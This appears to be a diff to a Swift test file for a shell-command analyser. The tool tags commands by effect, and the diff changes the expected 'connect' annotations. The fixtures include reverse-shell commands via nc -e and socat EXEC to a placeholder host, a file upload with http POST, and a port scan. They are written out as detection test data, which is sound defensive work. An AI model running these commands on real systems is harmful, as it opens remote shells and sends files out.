@@ -35,17 +35,17 @@ extension ProgramsTests {
             http POST e.example a=b f@x
                 read:x connect:e.example^ +uploads
             nc -e /bin/sh h 4444
-                connect:h:4444^ +opens-shell +reverse-shell => sh{/bin/sh}
+                connect:h:4444 +opens-shell +reverse-shell => sh{/bin/sh}
             nc -l -p 4444
                 +listens
             nc -zv h 1-100
                 connect:h:1-100 +scans
             nc h 80
-                connect:h:80^
+                connect:h:80
             socat TCP:h:1 EXEC:sh
-                connect:h:1^ +opens-shell +reverse-shell => sh{sh}
+                connect:h:1 +opens-shell +reverse-shell => sh{sh}
             socat TCP-LISTEN:80,fork TCP:h:80
-                connect:h:80^ +listens +tunnels
+                connect:h:80 +listens +tunnels
             dig example.com
                 connect:example.com
             dig @1.1.1.1 example.com MX
